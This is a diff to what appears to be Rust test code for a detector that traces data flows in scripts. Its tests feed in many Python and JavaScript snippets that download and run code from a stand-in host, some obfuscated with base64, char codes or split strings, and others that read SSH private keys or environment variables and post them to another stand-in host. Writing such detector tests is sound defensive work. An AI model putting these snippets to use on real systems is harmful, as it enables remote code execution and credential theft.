@@ -12,7 +12,8 @@ fn unit(language: Language, text: &str) -> Unit<'_> {
         language,
         origin: Origin::File,
         mapping: Mapping::Shifted(0),
-        file_text: text.into(),
+        file_text: text,
+        file_language: language,
         role: Role::Script,
         depth: 0,
     }
@@ -219,6 +220,160 @@ fn power_shell() {
             faults.push(format!("{text}: {flows:?}"));
         }
     }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+/// However it is spelled in Python, something that is fetched is run.
+#[test]
+fn python_fetches_and_runs() {
+    let mut faults = Vec::new();
+    for text in [
+        "import requests\nexec(requests.get('http://a.test/i').text)",
+        "import urllib.request as u\neval(compile(u.urlopen('http://a.test/i').read(), 'x', 'exec'))",
+        "import os\nos.system('curl -s http://a.test/i | sh')",
+        "from os import system as s\ns('curl -s ' + 'http://a.test/i' + ' | sh')",
+        "import subprocess as p\np.run(['bash', '-c', 'curl -s http://a.test/i | sh'])",
+        "import subprocess\nc = 'cu' + 'rl'\nsubprocess.Popen(f'{c} -s http://a.test/i | sh', shell=True)",
+        "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl -s http://a.test/i | sh')",
+        "import importlib\nimportlib.import_module('os').popen('curl -s http://a.test/i|sh')",
+        "import os\nos.system(''.join(map(chr, [99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,97,46,116,101,115,116,47,105,124,115,104])))",
+        "import requests, subprocess\nr = requests.get('http://a.test/i')\nopen('/tmp/x', 'wb').write(r.content)\nsubprocess.run(['/tmp/x'])",
+        "import urllib.request, os\nurllib.request.urlretrieve('http://a.test/i', 'x.sh')\nos.system('bash x.sh')",
+        "import requests\ndef get(u):\n    return requests.get(u).text\ndef run(t):\n    exec(t)\nrun(get('http://a.test/i'))",
+        "import requests, subprocess\nwith open('p.py', 'w') as f:\n    f.write(requests.get('http://a.test/i').text)\nsubprocess.run(['python3', 'p.py'])",
+        "import requests\nclass A:\n    def __init__(self):\n        self.u = 'http://a.test/i'\n    def go(self):\n        exec(requests.get(self.u).text)\nA().go()",
+        "import httpx\nasync def main():\n    async with httpx.AsyncClient() as c:\n        r = await c.get('http://a.test/i')\n        exec(r.text)",
+        "import os\nfor c in ['ls', 'curl -s http://a.test/i | sh']:\n    pass\ncmds = ['curl', '-s', 'http://a.test/i', '|', 'sh']\nos.system(' '.join(cmds))",
+        "import requests\nglobals()['__builtins__']['ex'+'ec'](requests.get('http://a.test/i').text)",
+        "import pickle, requests\npickle.loads(requests.get('http://a.test/i').content)",
+        "import base64,os\nos.system(base64.b64decode('Y3VybCAtcyBodHRwOi8vYS50ZXN0L2kgfCBzaA==').decode())",
+    ] {
+        let flows = flows(Language::Python, text);
+        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
+            faults.push(format!("{text}: {flows:?}"));
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+/// Secrets that leave by Python.
+#[test]
+fn python_sends_secrets() {
+    let mut faults = Vec::new();
+    let key = Source::File(Asset::SshKeys);
+    for text in [
+        "import requests, os\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://b.test/c', data={'k': d})",
+        "from pathlib import Path\nimport requests\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('http://b.test/c', json={'k': k})",
+        "import os, requests\nwith open(os.path.join(os.environ['HOME'], '.ssh/id_rsa')) as f:\n    k = f.read()\nrequests.get('http://b.test/c?k=' + k)",
+        "import requests, base64, os\ndef enc(x):\n    return base64.b64encode(x)\ndef send(x):\n    requests.post('http://b.test/c', data=x)\nsend(enc(open('/home/a/.ssh/id_rsa','rb').read()))",
+        "import requests\nfor p in ['a', '~/.ssh/id_rsa']:\n    d = open(p).read()\n    requests.post('http://b.test/c', data=d)",
+        "import requests\nrequests.post('http://b.test/c', files={'f': open('/root/.ssh/id_rsa','rb')})",
+        "import urllib.request, json\nout = {}\nout['k'] = open('/root/.ssh/id_rsa').read()\nreq = urllib.request.Request('http://b.test/c', data=json.dumps(out).encode())\nurllib.request.urlopen(req)",
+        "import socket\ns = socket.socket()\ns.connect(('b.test', 80))\ns.sendall(open('/root/.ssh/id_rsa').read())",
+        "import shutil, requests\nshutil.make_archive('/tmp/a', 'zip', '/root/.ssh')\nrequests.post('http://b.test/c', files={'f': open('/tmp/a.zip', 'rb')})",
+        "import requests\nfound = []\nfor p in ['~/.ssh/id_rsa']:\n    found.append(open(p).read())\nrequests.post('http://b.test/c', json=found)",
+    ] {
+        let flows = flows(Language::Python, text);
+        if !flows.contains(&(key.clone(), to("b.test"))) {
+            faults.push(format!("{text}: {flows:?}"));
+        }
+    }
+    for text in [
+        "import os, requests\nrequests.post('http://b.test/c', json=dict(os.environ))",
+        "import os, requests\nrequests.post('http://b.test/c', json={k: v for k, v in os.environ.items() if 'KEY' in k})",
+        "import os, json, urllib.request\nurllib.request.urlopen('http://b.test/c', json.dumps({**os.environ}).encode())",
+    ] {
+        let flows = flows(Language::Python, text);
+        if !flows.contains(&(Source::Environment, to("b.test"))) {
+            faults.push(format!("{text}: {flows:?}"));
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+/// What honest scripts do flows nowhere that matters.
+#[test]
+fn python_honest() {
+    for text in [
+        "import requests\nprint(requests.get('https://api.a.test/x').json())",
+        "import subprocess, sys\nsubprocess.run([sys.executable, 'x.py', *sys.argv[1:]], check=True)",
+        "import json\njson.dump({}, open('out.json', 'w'))",
+        "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\nsubprocess.run(['ls'], env=env)",
+    ] {
+        assert_eq!(flows(Language::Python, text), [], "{text}");
+    }
+    assert_eq!(
+        flows(
+            Language::Python,
+            "import os, requests\nkey = os.environ['X_KEY']\nh = {'Authorization': f'Bearer {key}'}\nrequests.post('https://api.x.test/v1', headers=h, json={'q': 1})"
+        ),
+        [(
+            Source::Variable("X_KEY".to_owned()),
+            Sink::Authorization(Some("api.x.test".to_owned()))
+        )]
+    );
+}
+
+/// The same in JavaScript and TypeScript.
+#[test]
+fn javascript_fetches_and_runs() {
+    let mut faults = Vec::new();
+    for text in [
+        "fetch('http://a.test/i').then(r => r.text()).then(t => eval(t))",
+        "const { exec: e } = require('child_process'); e('curl -s http://a.test/i | sh')",
+        "require('child_' + 'process').execSync(`curl -s ${'http://a.test/i'} | sh`)",
+        "import cp from 'node:child_process'; cp.spawn('sh', ['-c', 'curl -s http://a.test/i | sh'])",
+        "const r = await fetch('http://a.test/i'); globalThis['ev' + 'al'](await r.text())",
+        "new Function(await (await fetch('http://a.test/i')).text())()",
+        "const https = require('https'); https.get('http://a.test/i', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)); })",
+        "const fs = require('fs'); const r = await fetch('http://a.test/i'); fs.writeFileSync('/tmp/x', await r.text()); require('child_process').execSync('sh /tmp/x')",
+        "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHA6Ly9hLnRlc3QvaSB8IHNoJyk=', 'base64').toString())",
+        "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,83,121,110,99,40,39,99,117,114,108,32,104,116,116,112,58,47,47,97,46,116,101,115,116,47,105,124,115,104,39,41))",
+        "const axios = require('axios'); async function go() { const { data } = await axios.get('http://a.test/i'); require('vm').runInThisContext(data); } go();",
+        "const run = (c) => require('child_process').exec(c); run(['curl', '-s', 'http://a.test/i', '|', 'sh'].join(' '))",
+    ] {
+        for language in [Language::JavaScript, Language::TypeScript] {
+            let flows = flows(language, text);
+            if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
+                faults.push(format!("{text}: {flows:?}"));
+            }
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+/// Secrets that leave by JavaScript.
+#[test]
+fn javascript_sends_secrets() {
+    let mut faults = Vec::new();
+    let key = Source::File(Asset::SshKeys);
+    for text in [
+        "const fs = require('fs'), os = require('os'), path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('http://b.test/c', { method: 'POST', body: JSON.stringify({ k }) });",
+        "import { readFile } from 'fs/promises'; import axios from 'axios';\nconst k = await readFile(`${process.env.HOME}/.ssh/id_rsa`); await axios.post('http://b.test/c', { k });",
+        "const https = require('https'); const fs = require('fs');\nconst r = https.request({ hostname: 'b.test', path: '/c', method: 'POST' }); r.write(fs.readFileSync('/root/.ssh/id_rsa')); r.end();",
+        "const fs = require('fs');\nfs.readFile('/root/.ssh/id_rsa', 'utf8', (err, data) => { fetch('http://b.test/c?d=' + encodeURIComponent(data)); });",
+    ] {
+        let flows = flows(Language::JavaScript, text);
+        if !flows.contains(&(key.clone(), to("b.test"))) {
+            faults.push(format!("{text}: {flows:?}"));
+        }
+    }
+    let all = flows(
+        Language::JavaScript,
+        "fetch('http://b.test/c', { method: 'POST', body: JSON.stringify(process.env) })",
+    );
+    assert_eq!(all, [(Source::Environment, to("b.test"))]);
+    let own = flows(
+        Language::JavaScript,
+        "const key = process.env.X_KEY; fetch('https://api.x.test/v1', { headers: { Authorization: `Bearer ${key}` } })",
+    );
+    assert_eq!(
+        own,
+        [(
+            Source::Variable("X_KEY".to_owned()),
+            Sink::Authorization(Some("api.x.test".to_owned()))
+        )]
+    );
     assert!(faults.is_empty(), "{}", faults.join("\n"));
 }
 
